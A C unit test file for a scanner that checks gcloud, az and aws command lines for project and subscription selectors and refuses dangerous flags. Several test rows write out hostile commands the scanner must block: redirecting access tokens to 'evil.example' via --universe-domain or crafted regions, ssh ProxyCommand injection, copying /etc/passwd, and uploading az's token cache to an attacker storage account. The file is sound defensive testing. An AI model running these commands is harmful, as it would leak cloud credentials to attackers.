/* test_cloud_argv.c — selectors in cloud CLI argv (server/cloud_argv.c) with
 * the real tables of the GCP, Azure and AWS connectors: a table of commands
 * → the selectors found (what the connector then checks) or the refusal.
 * The CLI behaviours the tables encode were checked with the installed CLIs
 * (gcloud 528: no flag abbreviations, last --project wins; az 2.45 and
 * aws-cli 1.45: argparse prefixes, last value wins; az's @file). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "argv.h"
#include "cloud_argv.h"
#include "connector.h"

static const cloud_cli *rules(const char *provider)
{
    const connector *c = connector_find(provider);
    assert_non_null(c);
    assert_non_null(c->cloud);
    assert_non_null(c->cloud->argv_rules);
    return c->cloud->argv_rules;
}

/* Selectors as "<F|P|E><*>:<dest>=<value>" joined by " | " (F flag, P
 * positional, E embedded reference, * primary); a refusal as "!<code>". */
static void render(const cloud_argv_result *r, int rc, char *out, size_t cap)
{
    out[0] = '\0';
    if (rc < 0) {
        snprintf(out, cap, "!%s", r->code);
        return;
    }
    size_t k = 0;
    for (int i = 0; i < r->n && k < cap; i++) {
        const cloud_selector *s = &r->sel[i];
        char src = s->source == CLOUD_SEL_FLAG ? 'F' : s->source == CLOUD_SEL_POSITIONAL ? 'P' : 'E';
        k += (size_t)snprintf(out + k, cap - k, "%s%c%s:%s=%s", i ? " | " : "", src,
                              s->primary ? "*" : "", s->dest, s->value);
    }
}

typedef struct {
    const char *provider;
    const char *cmd;
    const char *want;  /* render() of the result */
    const char *says;  /* a refusal's message contains this (or NULL) */
} row;

#define S1 "11111111-1111-1111-1111-111111111111"
#define S2 "22222222-2222-2222-2222-222222222222"

static const row rows[] = {
    /* ---- gcloud: --project and --billing-project, every form ---- */
    { "gcp", "compute instances list", "", NULL },
    { "gcp", "compute instances list --project proj-a", "F*:project=proj-a", NULL },
    { "gcp", "compute instances list --project=proj-a", "F*:project=proj-a", NULL },
    { "gcp", "--project=proj-a compute instances list", "F*:project=proj-a", NULL },
    { "gcp", "--project proj-a compute instances list", "F*:project=proj-a", NULL },
    { "gcp", "--billing-project=b projects list", "F:billing project=b", NULL },
    { "gcp", "compute zones list --billing-project b --project p",
      "F:billing project=b | F*:project=p", NULL },
    /* repeats: gcloud keeps the last, so a first harmless one hid the second */
    { "gcp", "compute zones list --project=proj-a --project=proj-b", "!CLOUD_ARG_AMBIGUOUS",
      "more than once" },
    { "gcp", "--project proj-a compute zones list --project proj-b", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "gcp", "compute zones list --project=proj-a --project=proj-a", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "gcp", "compute zones list --billing-project=a --billing-project b", "!CLOUD_ARG_AMBIGUOUS",
      NULL },
    /* no value */
    { "gcp", "compute zones list --project", "!BAD_REQUEST", "--project needs a value" },
    { "gcp", "compute zones list --project=", "!BAD_REQUEST", NULL },
    { "gcp", "compute zones list --project --format json", "!BAD_REQUEST", NULL },
    /* gcloud has no abbreviations: --proj is its own (unknown) flag */
    { "gcp", "compute zones list --proj=x", "", NULL },
    /* positional project ids */
    { "gcp", "projects describe other", "P:project=other", NULL },
    { "gcp", "alpha projects describe other", "P:project=other", NULL },
    { "gcp", "beta projects get-iam-policy other", "P:project=other", NULL },
    { "gcp", "projects describe --format json other", "P:project=other", NULL },
    { "gcp", "projects describe --format=json other", "P:project=other", NULL },
    { "gcp", "--verbosity debug projects describe other", "P:project=other", NULL },
    { "gcp", "projects describe -- other", "P:project=other", NULL },
    { "gcp", "projects get-iam-policy other --filter bindings.role --limit 5",
      "P:project=other", NULL },
    { "gcp", "projects add-iam-policy-binding other --member user:a@b.example --role roles/viewer",
      "P:project=other", NULL },
    { "gcp", "projects remove-iam-policy-binding other --member=user:a@b.example --role=x",
      "P:project=other", NULL },
    { "gcp", "projects set-iam-policy other policy.json", "P:project=other", NULL },
    { "gcp", "projects delete other", "P:project=other", NULL },
    { "gcp", "projects undelete 123456789012", "P:project=123456789012", NULL },
    { "gcp", "projects update other --name New", "P:project=other", NULL },
    { "gcp", "projects get-ancestors other", "P:project=other", NULL },
    { "gcp", "alpha projects move other --folder 42", "P:project=other", NULL },
    { "gcp", "billing projects link other --billing-account 0X0X0X", "P:project=other", NULL },
    { "gcp", "beta billing projects describe other", "P:project=other", NULL },
    /* the shared VPC commands' PROJECT_ID shares args.project with --project:
     * `gcloud --project=a compute shared-vpc enable b` enables b (gcloud 528) */
    { "gcp", "--project=a compute shared-vpc enable other", "F*:project=a | P:project=other", NULL },
    { "gcp", "compute shared-vpc disable other", "P:project=other", NULL },
    { "gcp", "beta compute shared-vpc get-host-project other", "P:project=other", NULL },
    { "gcp", "compute shared-vpc list-associated-resources other", "P:project=other", NULL },
    { "gcp", "compute shared-vpc associated-projects add other --host-project host",
      "F:host project=host | P:project=other", NULL },
    { "gcp", "compute shared-vpc associated-projects remove other --host-project=host",
      "F:host project=host | P:project=other", NULL },
    { "gcp", "compute shared-vpc associated-projects list other", "P:project=other", NULL },
    { "gcp", "alpha billing accounts projects link other --billing-account 0X0X0X",
      "P:project=other", NULL },
    { "gcp", "alpha billing accounts projects unlink other", "P:project=other", NULL },
    { "gcp", "compute shared-vpc organizations list-host-projects 123", "", NULL },
    /* a flag naming another project the command reaches (--image-project,
     * --kms-project, --target-project, …): checked like projects/<id> */
    { "gcp", "compute instances create vm --image-project=debian-cloud --image i",
      "E:project=debian-cloud", NULL },
    { "gcp", "compute images create i --source-disk d --source-disk-project other",
      "E:project=other", NULL },
    { "gcp", "kms keys list --kms-project a --kms-project b", "E:project=a | E:project=b", NULL },
    { "gcp", "compute zones list --project=p --billing-project=b --host-project=h",
      "F*:project=p | F:billing project=b | F:host project=h", NULL },
    { "gcp", "compute instances create vm --image-project=", "", NULL },
    { "gcp", "--use-gcloud-billing-project projects describe other",
      "E:project=projects | P:project=other", NULL },
    { "gcp", "projects list", "", NULL },
    { "gcp", "projects list --filter=name:x", "", NULL },
    { "gcp", "projects create brand-new", "", NULL },
    /* a value of a flag the table does not know is checked as a project too */
    { "gcp", "projects describe --newflag v other", "P:project=v | P:project=other", NULL },
    /* refused flags, both forms; the value is never echoed */
    { "gcp", "--flags-file=f.yaml compute zones list", "!CLOUD_ARG_REFUSED", "--flags-file" },
    { "gcp", "compute zones list --flags-file f.yaml", "!CLOUD_ARG_REFUSED", "file" },
    { "gcp", "compute zones list --impersonate-service-account=sa@p.iam.gserviceaccount.com",
      "!CLOUD_ARG_REFUSED", "identity" },
    { "gcp", "compute zones list --account other@example.com", "!CLOUD_ARG_REFUSED", "--account" },
    { "gcp", "compute zones list --access-token-file=/secret/tok", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute zones list --configuration other", "!CLOUD_ARG_REFUSED", NULL },
    /* gcloud's hidden --universe-domain makes every API host <api>.<domain>:
     * the access token would go to whoever owns that domain */
    { "gcp", "compute zones list --universe-domain=evil.example", "!CLOUD_ARG_REFUSED",
      "--universe-domain" },
    { "gcp", "--universe-domain evil.example compute zones list", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute zones list --credential-file-override=/etc/creds.json", "!CLOUD_ARG_REFUSED",
      NULL },
    { "gcp", "auth login", "!CLOUD_ARG_REFUSED", "auth login" },
    { "gcp", "auth activate-service-account --key-file k.json", "!CLOUD_ARG_REFUSED", NULL },
    /* projects named inside resource names and URLs */
    { "gcp", "pubsub topics publish projects/other/topics/t --message m", "E:project=other", NULL },
    { "gcp", "compute instances delete "
             "https://www.googleapis.com/compute/v1/projects/other/zones/z/instances/i",
      "E:project=other", NULL },
    { "gcp", "asset search-all-resources --scope=projects/other", "E:project=other", NULL },
    { "gcp", "asset search-all-resources --scope projects/other", "E:project=other", NULL },
    { "gcp", "secrets versions access projects/123456/secrets/s/versions/1",
      "E:project=123456", NULL },
    { "gcp", "resource-manager tags bindings list "
             "--parent=//cloudresourcemanager.googleapis.com/projects/other",
      "E:project=other", NULL },
    { "gcp", "iam service-accounts describe robot@other.iam.gserviceaccount.com",
      "E:project=other", NULL },
    { "gcp", "compute instances describe https://x.example/Projects%2Fother/zones",
      "E:project=other", NULL },
    { "gcp", "compute instances describe projects%252Fother", "E:project=other", NULL },
    { "gcp", "compute instances list --filter=name:myprojects/x", "", NULL },
    { "gcp", "compute instances list --project=proj-a --filter=zone:projects/x",
      "E:project=x | F*:project=proj-a", NULL },
    { "gcp", "pubsub topics publish projects/a/topics/t projects/a/topics/u", "E:project=a", NULL },
    /* a location gcloud builds a regional API host from
     * (https://<region>-aiplatform.googleapis.com/): a '/', '?', '#' or '\\'
     * ends the host there and the bearer token goes to the host before it
     * (gcloud 528 --log-http: https://evil.example/v1/projects/…) */
    { "gcp", "ai endpoints list --region=evil.example/x", "!CLOUD_ARG_REFUSED", "--region" },
    { "gcp", "ai endpoints list --region 'evil.example?'", "!CLOUD_ARG_REFUSED", "host" },
    { "gcp", "run services list '--region=kubernetes#'", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "artifacts repositories list '--location=evil.example\\'", "!CLOUD_ARG_REFUSED",
      NULL },
    { "gcp", "pubsub lite-topics list --zone=a/b", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "ai endpoints describe 'projects/p/locations/evil.example?/endpoints/e'",
      "!CLOUD_ARG_REFUSED", "argument 4" },
    { "gcp", "ai endpoints describe projects%2Fp%2Flocations%2Fevil.example%3F%2Fendpoints%2Fe",
      "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "run services describe s '--region=us-central1' --region=us-central1#",
      "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "ai endpoints list --region=us-central1", "", NULL },
    { "gcp", "run services list --region us-central1 --format json", "", NULL },
    { "gcp", "ai endpoints describe projects/p/locations/us-central1/endpoints/e", "E:project=p",
      NULL },
    { "gcp", "compute instances list '--filter=zone~zones/us-.*'", "", NULL },
    { "gcp", "compute instances describe "
             "https://www.googleapis.com/compute/v1/projects/p/zones/z/instances/i?alt=json",
      "E:project=p", NULL },
    /* after `--`, arguments are positionals (in ssh, the ssh client's) */
    { "gcp", "compute instances list -- --project=other", "", NULL },
    /* the commands that run a local ssh/scp client: its options (--ssh-flag,
     * or `-- SSH_ARGS`) run a local command, e.g. -oProxyCommand=…, in the
     * sandbox with the connection's token in its environment; every release
     * track (gcloud 528 surface: compute/ssh.py, scp.py, config_ssh.py, …) */
    { "gcp", "compute ssh vm --zone z --ssh-flag=-oProxyCommand=sh", "!CLOUD_ARG_REFUSED",
      "--ssh-flag" },
    { "gcp", "compute ssh vm --zone z -- -oProxyCommand=sh", "!CLOUD_ARG_REFUSED", "compute ssh" },
    { "gcp", "compute ssh vm --command=uptime", "!CLOUD_ARG_REFUSED", "remote shell" },
    { "gcp", "beta compute ssh vm", "!CLOUD_ARG_REFUSED", "compute ssh" },
    { "gcp", "--project=p alpha compute ssh vm", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute --verbosity=debug ssh vm", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute scp --scp-flag=-oProxyCommand=sh f vm:f", "!CLOUD_ARG_REFUSED",
      "--scp-flag" },
    { "gcp", "compute scp vm:/etc/passwd .", "!CLOUD_ARG_REFUSED", "compute scp" },
    { "gcp", "beta compute config-ssh --ssh-config-file=f", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute config-ssh", "!CLOUD_ARG_REFUSED", "compute config-ssh" },
    { "gcp", "compute connect-to-serial-port vm", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "beta compute diagnose routes vm", "!CLOUD_ARG_REFUSED", "diagnose routes" },
    { "gcp", "compute tpus tpu-vm ssh t --zone z", "!CLOUD_ARG_REFUSED", "tpu-vm ssh" },
    { "gcp", "alpha compute tpus tpu-vm scp f t:f", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute tpus queued-resources ssh q", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute tpus queued-resources scp f q:f", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "cloud-shell ssh --command=id", "!CLOUD_ARG_REFUSED", "cloud-shell ssh" },
    { "gcp", "beta cloud-shell scp localhost:f cloudshell:f", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "app instances ssh i --service s --version v", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "app instances scp f i:f", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "workstations ssh w", "!CLOUD_ARG_REFUSED", "workstations ssh" },
    /* and their flags wherever they stand, in any spelling */
    { "gcp", "compute instances list --ssh-flag -oProxyCommand=sh", "!CLOUD_ARG_REFUSED",
      "--ssh-flag" },
    { "gcp", "--plain compute instances list", "!CLOUD_ARG_REFUSED", "--plain" },
    { "gcp", "compute instances list --ssh-key-file=k", "!CLOUD_ARG_REFUSED", NULL },
    { "gcp", "compute instances list --strict-host-key-checking=no", "!CLOUD_ARG_REFUSED", NULL },
    /* the API commands stay: listing instances, their SSH keys, an IAP tunnel's */
    { "gcp", "compute instances describe ssh --zone z", "", NULL },
    { "gcp", "compute os-login ssh-keys list", "", NULL },
    { "gcp", "compute instances get-serial-port-output vm", "", NULL },

    /* ---- az ---- */
    { "azure", "group list", "", NULL },
    { "azure", "group list --subscription " S1, "F*:subscription=" S1, NULL },
    { "azure", "group list --subscription=" S1, "F*:subscription=" S1, NULL },
    { "azure", "group list --subscription aurora-prod", "F*:subscription=aurora-prod", NULL },
    /* argparse prefixes (the real az reads --subs as --subscription) */
    { "azure", "group list --subs " S1, "!CLOUD_ARG_AMBIGUOUS", "--subscription in full" },
    { "azure", "group list --subs=" S1, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "group list --su " S1, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "group list --s " S1, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "group list --subscriptio " S1, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "group list --subscription " S1 " --subscription " S2, "!CLOUD_ARG_AMBIGUOUS",
      "more than once" },
    { "azure", "group list --subscription", "!BAD_REQUEST", NULL },
    /* az account …: -s, and -n/--name in the profile commands */
    { "azure", "account set -s " S1, "F*:subscription=" S1, NULL },
    { "azure", "account set -s" S1, "F*:subscription=" S1, NULL },
    { "azure", "account set -s=" S1, "F*:subscription=" S1, NULL },
    { "azure", "account set --name " S1, "F*:subscription=" S1, NULL },
    { "azure", "account show -n " S1, "F*:subscription=" S1, NULL },
    { "azure", "account show --n " S1, "!CLOUD_ARG_AMBIGUOUS", "--name" },
    { "azure", "account show --na=" S1, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "account show -s " S1 " --subscription " S2, "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "account show -n a -s b", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "account show -ys " S1, "F*:subscription=" S1, NULL },
    { "azure", "account show -otsv", "", NULL },
    { "azure", "account show -o tsv --query id", "", NULL },
    { "azure", "account list-locations -s " S2, "F*:subscription=" S2, NULL },
    { "azure", "account lock list -s " S2 " -n mylock", "F*:subscription=" S2, NULL },
    { "azure", "account management-group show -n grp", "", NULL },
    { "azure", "vm show -n vm1 -g rg", "", NULL },
    { "azure", "webapp deployment slot list -s staging -n app -g rg", "", NULL },
    /* @file: the file's content would become the argument */
    { "azure", "group list --subscription @/tmp/sub", "!CLOUD_ARG_REFUSED", "@file" },
    { "azure", "group list --subscription=@sub.txt", "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "group list @args.txt", "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "group create -n rg --tags owner=@me", "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "group list --query [?name=='@x']", "", NULL },
    { "azure", "group list --query user@example.com", "", NULL },
    /* subscriptions inside resource ids and URLs */
    { "azure", "rest --method get --url https://management.azure.com/subscriptions/" S2
               "/resourcegroups?api-version=2021-04-01",
      "E:subscription=" S2 " | F:rest URL=https://management.azure.com/subscriptions/" S2
      "/resourcegroups?api-version=2021-04-01", NULL },
    { "azure", "rest --url /subscriptions/{subscriptionId}/resourcegroups",
      "E:subscription={subscriptionId} | F:rest URL=/subscriptions/{subscriptionId}/resourcegroups",
      NULL },
    { "azure", "resource show --ids /SUBSCRIPTIONS/" S2 "/resourceGroups/rg/providers/a/b/c",
      "E:subscription=" S2, NULL },
    { "azure", "rest --url https://management.azure.com/subscriptions%2F" S2 "%2Fx",
      "E:subscription=" S2 " | F:rest URL=https://management.azure.com/subscriptions%2F" S2 "%2Fx",
      NULL },
    /* az rest: the URL the Resource Manager token is sent to (the connector
     * checks its host), every spelling; --resource picks the token whatever
     * the URL's host */
    { "azure", "rest --uri .evil.example/x", "F:rest URL=.evil.example/x", NULL },
    { "azure", "rest -u https://x.example", "F:rest URL=https://x.example", NULL },
    { "azure", "rest -uhttps://x.example", "F:rest URL=https://x.example", NULL },
    { "azure", "rest --url=a --uri b", "!CLOUD_ARG_AMBIGUOUS", "more than once" },
    { "azure", "rest --ur .evil.example/x", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "rest --url /x --resource https://management.azure.com/", "!CLOUD_ARG_REFUSED",
      "--resource" },
    { "azure", "rest --url https://evil.example/ --res=https://management.azure.com/",
      "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "webapp create -n a -g rg -u https://x", "", NULL },
    { "azure", "role assignment list --scope=/subscriptions/" S1 " --subscription " S1,
      "E:subscription=" S1 " | F*:subscription=" S1, NULL },
    { "azure", "login --identity", "!CLOUD_ARG_REFUSED", "az login" },
    { "azure", "login", "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "group list -- --subscription x", "", NULL },
    /* a storage credential in the command authenticates to any account, an
     * attacker's too, that a file of the sandbox (az's own token cache) is then
     * uploaded to over 443: the connector chooses the identity */
    { "azure", "storage blob upload --account-name evil --account-key K -c c -n x "
               "-f .azure/msal_token_cache.json", "!CLOUD_ARG_REFUSED", "--account-key" },
    { "azure", "storage blob upload --account-key=K --account-name evil -c c -f f",
      "!CLOUD_ARG_REFUSED", "identity" },
    { "azure", "storage blob upload -c c -f f "
               "--connection-string DefaultEndpointsProtocol=https;AccountName=evil;AccountKey=K",
      "!CLOUD_ARG_REFUSED", "--connection-string" },
    { "azure", "storage blob upload --account-name evil --sas-token sv=1&se=2 -c c -f f",
      "!CLOUD_ARG_REFUSED", "--sas-token" },
    /* a SAS inside a URL is the same credential (its signature: sig=) */
    { "azure", "storage blob upload -f f "
               "--blob-url https://evil.blob.core.windows.net/c/x?sv=1&sig=abc",
      "!CLOUD_ARG_REFUSED", "shared access signature" },
    { "azure", "storage blob upload-batch -s . -d https://evil.blob.core.windows.net/c?SIG=abc",
      "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "storage copy -s f -d https://evil.blob.core.windows.net/c/x%3Fsv%3D1%26sig%3Dabc",
      "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "group create -n rg -l westeurope --tags sig=x", "", NULL },
    { "azure", "storage blob upload -f f --blob-url https://mine.blob.core.windows.net/c/x", "",
      NULL },
    { "azure", "appconfig kv list --connection-string=Endpoint=https://evil.example;Secret=s",
      "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "batch pool list --account-name evil --account-key K --account-endpoint e",
      "!CLOUD_ARG_REFUSED", NULL },
    /* az takes unambiguous prefixes: --account-k is --account-key */
    { "azure", "storage blob upload --account-name evil --account-k K -f f", "!CLOUD_ARG_AMBIGUOUS",
      "--account-key in full" },
    { "azure", "storage blob upload --conn=x -f f", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "storage blob upload --sas x -f f", "!CLOUD_ARG_AMBIGUOUS", NULL },
    /* the same credential for another account the command writes to or reads */
    { "azure", "storage blob copy start --source-account-key K --source-account-name evil",
      "!CLOUD_ARG_REFUSED", "--source-account-key" },
    { "azure", "appconfig kv export -n s --destination appconfig --dest-connection-string x",
      "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "container create -g rg -n c --azure-file-volume-account-key=K",
      "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "sql db export --storage-container-sas-token x", "!CLOUD_ARG_REFUSED", NULL },
    { "azure", "storage blob copy start --source-account-k K", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "azure", "iot hub routing-endpoint create -c Endpoint=sb://evil.example/", "!CLOUD_ARG_REFUSED",
      "--connection-string" },
    { "azure", "iot hub routing-endpoint create -cEndpoint=sb://evil.example/", "!CLOUD_ARG_REFUSED",
      NULL },
    /* what stays: the connection's own identity (login), or keys az looks up
     * with it (--auth-mode key: only accounts the subscription holds), and the
     * full flags that begin like the refused ones */
    { "azure", "storage blob list --account-name mine --auth-mode login -c c", "", NULL },
    { "azure", "storage blob upload --account-name mine --auth-mode key -c c -n x -f f", "", NULL },
    { "azure", "storage account keys list -n mine -g rg", "", NULL },
    { "azure", "webapp config connection-string set -g rg -n app --connection-string-type SQLAzure "
               "--settings a=b", "", NULL },
    { "azure", "webapp connection show -g rg -n app --connection c", "", NULL },
    { "azure", "dls account show --account a", "", NULL },
    { "azure", "disk grant-access -g rg -n d --duration-in-seconds 60 --secure-vm-guest-state-sas",
      "", NULL },
    { "azure", "storage blob list -c container --account-name mine", "", NULL },

    /* ---- aws ---- */
    { "aws", "sts get-caller-identity", "", NULL },
    { "aws", "sts get-caller-identity --profile other", "!CLOUD_ARG_REFUSED", "--profile" },
    { "aws", "--profile=other s3 ls", "!CLOUD_ARG_REFUSED", NULL },
    { "aws", "s3 ls --prof other", "!CLOUD_ARG_AMBIGUOUS", "--profile in full" },
    { "aws", "s3 ls --p other", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "aws", "--endpoint-url http://127.0.0.1:1 sts get-caller-identity",
      "F:endpoint URL=http://127.0.0.1:1", NULL },
    { "aws", "sts get-caller-identity --endpoint-url=https://sts.example", "F:endpoint URL=https://sts.example",
      NULL },
    { "aws", "--endpoint http://x s3 ls", "!CLOUD_ARG_AMBIGUOUS", "--endpoint-url" },
    { "aws", "--endpoint-u=http://x s3 ls", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "aws", "s3 ls --endpoint-url a --endpoint-url b", "!CLOUD_ARG_AMBIGUOUS", NULL },
    { "aws", "sts assume-role --role-arn arn:aws:iam::111111111111:role/x --role-session-name s",
      "!CLOUD_ARG_REFUSED", "sts assume-role" },
    { "aws", "--region us-east-1 sts assume-role --role-arn a --role-session-name s",
      "!CLOUD_ARG_REFUSED", NULL },
    { "aws", "sts assume-role-with-web-identity --role-arn a", "!CLOUD_ARG_REFUSED", NULL },
    { "aws", "sts get-session-token", "!CLOUD_ARG_REFUSED", NULL },
    { "aws", "sts get-federation-token --name x", "!CLOUD_ARG_REFUSED", NULL },
    { "aws", "ec2 describe-instances --region eu-west-1 --filters Name=x,Values=y", "", NULL },
    { "aws", "--output json sts get-caller-identity", "", NULL },
    { "aws", "s3 cp @file s3://b/k", "", NULL },
};

static void test_table(void **state)
{
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        const row *r = &rows[i];
        argv_t a;
        char err[128];
        if (argv_tokenize(r->cmd, &a, err, sizeof(err)) != 0)
            fail_msg("cannot tokenize [%s]: %s", r->cmd, err);
        cloud_argv_result res;
        int rc = cloud_argv_scan(rules(r->provider), a.c, (const char *const *)a.v, &res);
        char got[1024];
        render(&res, rc, got, sizeof(got));
        if (strcmp(got, r->want))
            fail_msg("%s [%s]: got \"%s\", expected \"%s\" (%s)", r->provider, r->cmd, got,
                     r->want, rc < 0 ? res.err : "-");
        if (rc < 0) {
            if (r->says && !strstr(res.err, r->says))
                fail_msg("%s [%s]: \"%s\" does not say \"%s\"", r->provider, r->cmd, res.err,
                         r->says);
            assert_int_equal(res.status, strstr(r->want, "REFUSED") ? 403 : 400);
            assert_int_equal(res.n, 0);
            /* a refused flag's value is not echoed */
            if (strstr(r->cmd, "/secret/tok"))
                assert_null(strstr(res.err, "/secret/tok"));
        }
        cloud_argv_scan_free(&res);
        argv_free(&a);
    }
}

static void test_primary(void **state)
{
    const char *const v[] = { "compute", "zones", "list", "--billing-project=b", "--project", "p",
                              "--filter=projects/x" };
    cloud_argv_result r;
    assert_int_equal(cloud_argv_scan(rules("gcp"), 7, v, &r), 0);
    const cloud_selector *p = cloud_argv_primary(&r, "project");
    assert_non_null(p);
    assert_string_equal(p->value, "p");
    assert_string_equal(p->what, "--project");
    assert_null(cloud_argv_primary(&r, "billing project"));
    cloud_argv_scan_free(&r);
    assert_int_equal(r.n, 0);
}

static void test_bad_argv_and_limits(void **state)
{
    cloud_argv_result r;
    const char *const holes[] = { "projects", NULL, "x" };
    assert_int_equal(cloud_argv_scan(rules("gcp"), 3, holes, &r), -1);
    assert_int_equal(r.status, 400);
    assert_int_equal(cloud_argv_scan(rules("gcp"), 1, NULL, &r), -1);
    assert_int_equal(cloud_argv_scan(rules("gcp"), 0, NULL, &r), 0);
    assert_int_equal(r.n, 0);
    /* more references than can be checked: refused, nothing leaks */
    static char bufs[CLOUD_ARGV_MAX_SELECTORS + 1][32];
    const char *v[CLOUD_ARGV_MAX_SELECTORS + 1];
    for (int i = 0; i <= CLOUD_ARGV_MAX_SELECTORS; i++) {
        snprintf(bufs[i], sizeof(bufs[i]), "projects/p%d/topics/t", i);
        v[i] = bufs[i];
    }
    assert_int_equal(cloud_argv_scan(rules("gcp"), CLOUD_ARGV_MAX_SELECTORS, v, &r), 0);
    assert_int_equal(r.n, CLOUD_ARGV_MAX_SELECTORS);
    cloud_argv_scan_free(&r);
    assert_int_equal(cloud_argv_scan(rules("gcp"), CLOUD_ARGV_MAX_SELECTORS + 1, v, &r), -1);
    assert_string_equal(r.code, "CLOUD_ARG_AMBIGUOUS");
    assert_int_equal(r.n, 0);
    /* control characters in a refused value are not echoed raw */
    const char *const esc[] = { "--subs=\x1b[31m" };
    assert_int_equal(cloud_argv_scan(rules("azure"), 1, esc, &r), -1);
    assert_null(strchr(r.err, '\x1b'));
    /* a huge argument is scanned without trouble */
    size_t big = 60000;
    char *h = malloc(big + 1);
    assert_non_null(h);
    memset(h, '%', big);
    h[big] = '\0';
    const char *const hv[] = { h };
    assert_int_equal(cloud_argv_scan(rules("azure"), 1, hv, &r), 0);
    free(h);
}

static void test_every_provider_has_rules(void **state)
{
    for (size_t i = 0; i < connector_count(); i++) {
        const connector *c = connector_at(i);
        if (c->cloud)
            assert_non_null(c->cloud->argv_rules);
        if (c->cloud)
            assert_string_equal(c->cloud->argv_rules->program, c->cloud->program);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_table),
        cmocka_unit_test(test_primary),
        cmocka_unit_test(test_bad_argv_and_limits),
        cmocka_unit_test(test_every_provider_has_rules),
    };
    return cmocka_run_group_tests_name("cloud_argv", tests, NULL, NULL);
}
